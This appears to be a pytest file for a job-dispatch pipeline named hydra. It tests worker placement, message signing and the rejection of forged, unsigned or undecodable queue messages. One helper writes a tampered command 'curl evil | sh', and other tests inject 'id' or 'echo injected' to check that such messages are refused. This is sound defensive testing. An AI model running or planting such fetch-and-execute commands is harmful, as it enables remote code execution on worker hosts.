"""The dispatch pipeline (build, validate, place, record, send) on in-memory stores."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest
from kombu.exceptions import DecodeError, OperationalError

from hydra import clock, names
from hydra.broker.due import DueIndex
from hydra.dispatch import signing
from hydra.dispatch.envelope import Envelope
from hydra.dispatch.pipeline import Republished
from hydra.dispatch.steps import build_message, summary
from hydra.errors import InvalidJob
from hydra.model.priority import broker_level
from hydra.model.records import Chain
from hydra.model.spec import load_job
from hydra.model.status import RunStatus

BODY = {
    "name": "build",
    "user": "rich",
    "command": "make",
    "affinity": {"os": ["linux"], "tags": ["gpu"]},
    "env": {"TOKEN": "s3cret"},
    "priority": 95,
}


def stored(memory, **overrides):
    return memory.pipeline.jobs.create(load_job(dict(BODY, **overrides)))


def test_an_attempt_goes_to_the_least_loaded_eligible_worker_and_is_recorded_before_it_is_sent(memory):
    memory.worker("cpu1")  # no gpu tag: not eligible
    memory.worker("gpu1", tags={"gpu"})
    busy = memory.worker("gpu2", tags={"gpu"})
    memory.registry.add_load(busy.id, 2)
    job = stored(memory)

    where = memory.pipeline.dispatch(job)

    assert (where.status, where.worker_id, where.queue) == (
        RunStatus.QUEUED,
        "gpu1@host",
        names.worker_queue("gpu1@host"),
    )
    run = memory.pipeline.runs.get(where.run_id)
    assert (run.status, run.worker_id, run.queue, run.attempt) == ("queued", "gpu1@host", where.queue, 1)
    assert memory.pipeline.jobs.get(job.id).last_run_id == where.run_id
    [sent] = memory.app.sent
    assert sent.name == names.TASK_RUN_COMMAND and sent.options["queue"] == where.queue
    assert sent.options["priority"] == broker_level(95) == 0
    assert sent.kwargs["job_id"] == job.id and sent.kwargs["attempt"] == 1 and sent.kwargs["command"] == "make"
    assert "s3cret" not in sent.options["kwargsrepr"] and "make" in sent.options["kwargsrepr"]
    # Flower, Celery's logs and events show the job and attempt; the task name stays for routing.
    assert sent.options["shadow"] == "hydra: build #1"
    assert memory.registry.loads()["gpu1@host"] == 1  # counted against the chosen worker


def test_no_eligible_worker_means_pending_with_the_reason(memory):
    memory.worker("cpu1")
    where = memory.pipeline.dispatch(stored(memory))
    assert where.status == RunStatus.PENDING and "cpu1@host lacks tag gpu" in where.reason
    run = memory.pipeline.runs.get(where.run_id)
    assert (run.status, run.queue, run.pending_reason) == ("pending", names.PENDING_QUEUE, where.reason)
    assert memory.queue_of(where.run_id) == names.PENDING_QUEUE


def test_a_broker_that_cannot_take_the_message_leaves_the_attempt_pending_for_the_controller(memory):
    memory.worker("gpu1", tags={"gpu"})
    memory.app.fail = OperationalError("connection refused")
    where = memory.pipeline.dispatch(stored(memory))
    run = memory.pipeline.runs.get(where.run_id)
    assert where.status == RunStatus.PENDING and run.status == "pending" and run.queue is None
    assert "broker unavailable" in run.pending_reason and not memory.app.sent


def test_a_follow_up_attempt_carries_its_chain_in_the_record_and_the_headers(memory):
    memory.worker("gpu1", tags={"gpu"})
    where = memory.pipeline.dispatch(stored(memory), attempt=3, chain=Chain("r1", lost=1, failed=1))
    run = memory.pipeline.runs.get(where.run_id)
    assert (run.attempt, run.retry_of, run.lost, run.failed) == (3, "r1", 1, 1)
    headers = dict(memory.app.sent[0].options["headers"])
    signature = headers.pop(signing.HEADER)
    assert headers == {"hydra_retry_of": "r1", "hydra_lost": 1, "hydra_failed": 1}
    sent = memory.app.sent[0]
    envelope = Envelope.for_send(sent.name, where.run_id, (), sent.kwargs, sent.options)
    assert envelope.verify(signature) is None
    # the signature covers the chain, the kwargs, the run id, the embed and Celery's timing headers
    assert "tampered" in replace(envelope, headers={**envelope.headers, "hydra_lost": 0}).verify(signature)
    assert "tampered" in replace(envelope, kwargs={**sent.kwargs, "command": "id"}).verify(signature)
    assert "tampered" in replace(envelope, id="other").verify(signature)
    assert "tampered" in replace(envelope, embed={**envelope.embed, "callbacks": [{"task": "x"}]}).verify(signature)
    assert "tampered" in replace(envelope, headers={**envelope.headers, "timelimit": [1, None]}).verify(signature)
    assert "not signed" in envelope.verify(None)


def test_apply_async_without_a_job_gets_one_and_goes_through_the_same_steps(memory):
    memory.worker("gpu1", tags={"gpu"})
    result = memory.pipeline.accept(
        (), {"command": "echo hi", "user": "ana", "affinity": {"tags": ["gpu"]}}, {"task_id": "run-1"}
    )
    assert result.id == "run-1"
    run = memory.pipeline.runs.get("run-1")
    job = memory.pipeline.jobs.get(run.job_id)
    assert (job.source, job.name, job.last_run_id) == ("python", "echo hi", "run-1")
    assert (run.status, run.worker_id) == ("queued", "gpu1@host")
    assert memory.app.sent[0].kwargs["job_id"] == job.id
    assert memory.redis.hgetall(names.METRIC_JOBS_SUBMITTED) == {"python": "1"}


def test_apply_async_to_a_named_queue_is_recorded_there_without_placement(memory):
    memory.worker("gpu1", tags={"gpu"})
    job = stored(memory)
    memory.pipeline.accept(None, {"job_id": job.id}, {"task_id": "r2", "queue": names.worker_queue("gpu1@host")})
    run = memory.pipeline.runs.get("r2")
    assert (run.status, run.worker_id) == ("queued", "gpu1@host")
    assert memory.queue_of("r2") == names.worker_queue("gpu1@host") and memory.registry.loads() == {}


@pytest.mark.parametrize(
    "args, kwargs, field",
    [
        ((), {"command": "x"}, "user"),
        (("echo",), {"command": "x", "user": "u"}, "args"),
        ((), {"command": "x", "user": "u", "timeout": -5}, "timeout"),
        ((), {"command": "x", "user": "u", "job_id": "nope"}, "job_id"),
    ],
)
def test_an_invalid_message_is_refused_before_anything_is_stored_or_sent(memory, args, kwargs, field):
    with pytest.raises(InvalidJob) as info:
        memory.pipeline.accept(args, kwargs, {"task_id": "bad"})
    assert field in info.value.errors
    assert memory.pipeline.runs.find("bad") is None and not memory.app.sent
    assert memory.pipeline.jobs.list()[0] == []


class Message:
    """A message taken back from a queue (what kombu hands the controller), signed as the
    pipeline signs (``signed=False``: as anyone else would send it)."""

    content_type = "application/json"
    delivery_info = {"routing_key": names.PENDING_QUEUE}

    def __init__(self, run_id, kwargs, priority=3, *, signed=True):
        self.headers = {"id": run_id, "task": names.TASK_RUN_COMMAND, **Chain().headers()}
        if signed:
            self.headers[signing.HEADER] = Envelope.of_message(self.headers, [], kwargs, {}).sign()
        self._payload = ((), kwargs, {})
        self.properties = {"priority": priority}
        self.acked = self.requeued = False

    @property
    def payload(self):
        if isinstance(self._payload, Exception):
            raise self._payload
        return self._payload

    def ack(self):
        self.acked = True

    def requeue(self):
        self.requeued = True


def test_a_pending_message_is_placed_once_a_worker_can_take_it(memory):
    job = stored(memory)
    where = memory.pipeline.dispatch(job)
    message = Message(where.run_id, build_message(job, 1))
    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.WAITING
    assert not (message.acked or message.requeued) and len(memory.app.sent) == 1  # the caller puts it back

    memory.worker("gpu1", tags={"gpu"})
    message = Message(where.run_id, message.payload[1])
    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.SENT
    assert message.acked and memory.pipeline.runs.get(where.run_id).status == "queued"
    assert memory.app.sent[-1].options["priority"] == 3  # the level it was published with


def test_a_message_of_an_ended_or_claimed_attempt_is_dropped(memory):
    memory.worker("gpu1", tags={"gpu"})
    where = memory.pipeline.dispatch(stored(memory))
    memory.pipeline.runs.claim(where.run_id, message=memory.app.sent[0].kwargs, worker_id="gpu1@host")
    message = Message(where.run_id, memory.app.sent[0].kwargs)
    assert memory.pipeline.republish(message, only_if_placeable=False) == Republished.DROPPED
    assert message.acked and len(memory.app.sent) == 1


def test_the_summary_names_the_job_and_never_the_environment():
    text = summary({"name": "n", "user": "u", "command": "x" * 500, "env": {"A": "secret"}, "attempt": 2})
    assert "secret" not in text and "'attempt': 2" in text and len(text) < 300
    http = summary({"name": "n", "executor": "http", "http": {"method": "POST", "url": "https://h/x"}})
    assert "POST https://h/x" in http


def test_the_due_index_hands_out_only_runs_whose_time_has_come(memory):
    due = DueIndex()
    now = clock.utcnow()
    due.add("later", now + timedelta(seconds=60))
    due.add("now", now - timedelta(seconds=1))
    assert due.due(now) == ["now"] and due.size() == 2


def test_a_message_for_a_stored_job_runs_the_job_as_stored(memory):
    """The injection: a message naming alice's job but carrying another command is refused."""
    memory.worker("gpu1", tags={"gpu"})
    job = stored(memory)
    with pytest.raises(InvalidJob) as info:
        memory.pipeline.accept(None, {"job_id": job.id, "user": "rich", "command": "echo injected"}, {"task_id": "i"})
    assert "command" in info.value.errors and "differs from stored job" in info.value.errors["command"][0]
    assert memory.pipeline.runs.find("i") is None and not memory.app.sent
    memory.pipeline.accept(None, {"job_id": job.id, "command": "make"}, {"task_id": "ok"})
    assert memory.app.sent[-1].kwargs["command"] == "make" and memory.app.sent[-1].kwargs["env"] == BODY["env"]


@pytest.mark.parametrize("options", [{"serializer": "pickle"}, {"serializer": "yaml"}, {"compression": "zlib"}])
def test_only_json_messages_are_accepted(memory, options):
    memory.worker("gpu1", tags={"gpu"})
    with pytest.raises(InvalidJob) as info:
        memory.pipeline.accept(None, {"command": "x", "user": "u"}, {"task_id": "p", **options})
    assert set(info.value.errors) <= {"serializer", "compression"}
    assert memory.pipeline.runs.find("p") is None and not memory.app.sent


@pytest.mark.parametrize(
    "make, reason",
    [
        (lambda run_id, kwargs: Message(run_id, kwargs, signed=False), "not signed"),
        (lambda run_id, kwargs: _tampered(Message(run_id, kwargs)), "tampered"),
        (lambda run_id, kwargs: _undecodable(Message(run_id, kwargs)), "undecodable"),
    ],
)
def test_a_bad_message_in_pending_is_recorded_and_never_sent_again(memory, make, reason):
    memory.worker("gpu1", tags={"gpu"})
    kwargs = build_message(stored(memory), 1)
    message = make("forged-run", kwargs)
    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.DROPPED
    assert message.acked and not memory.app.sent  # dropped, not laundered by re-signing
    run = memory.pipeline.runs.get("forged-run")
    assert run.status == "dead_letter" and reason in run.error and run.ended_by == "controller"
    # placement goes on: a good message behind it is placed
    good = memory.pipeline.dispatch(stored(memory))
    good_message = Message(good.run_id, memory.app.sent[-1].kwargs)
    assert memory.pipeline.republish(good_message, only_if_placeable=True) == Republished.SENT


def test_a_forged_message_naming_a_real_run_cannot_end_it(memory):
    where = memory.pipeline.dispatch(stored(memory))  # pending: no worker
    forged = Message(where.run_id, {**memory.app.sent[0].kwargs, "command": "id"}, signed=False)
    assert memory.pipeline.republish(forged, only_if_placeable=True) == Republished.DROPPED
    run = memory.pipeline.runs.get(where.run_id)
    assert run.status == "pending" and "not signed" in run.refusals[0]["reason"]


def _tampered(message):
    _args, kwargs, _embed = message.payload
    message._payload = ((), {**kwargs, "command": "curl evil | sh"}, {})
    return message


def _undecodable(message):
    message._payload = ValueError("unpickling is not allowed")
    return message


def test_a_malformed_copy_of_an_ended_run_is_noted_on_it_not_dropped_unseen(memory):
    """A stand-in for an envelope kombu could not read (hydra.broker.envelope) naming a run
    that has ended: refused and noted on that run, the run itself unchanged."""
    memory.worker("gpu1", tags={"gpu"})
    where = memory.pipeline.dispatch(stored(memory))
    memory.pipeline.runs.claim(where.run_id, message=memory.app.sent[0].kwargs, worker_id="gpu1@host")
    message = Message(where.run_id, memory.app.sent[0].kwargs)
    message._payload = DecodeError("malformed envelope: its properties are a JSON string, not an object")
    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.DROPPED
    run = memory.pipeline.runs.get(where.run_id)
    assert message.acked and run.status == "running" and "malformed envelope" in run.refusals[-1]["reason"]
    assert len(memory.app.sent) == 1


@pytest.mark.parametrize("priority", ["high", {"level": 1}, -1, 10, True, None])
def test_a_broker_priority_that_is_no_level_is_not_passed_on(memory, priority):
    job = stored(memory)
    where = memory.pipeline.dispatch(job)
    memory.worker("gpu1", tags={"gpu"})
    message = Message(where.run_id, memory.app.sent[0].kwargs, priority=priority)
    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.SENT
    assert memory.app.sent[-1].options["priority"] == broker_level(job.priority)
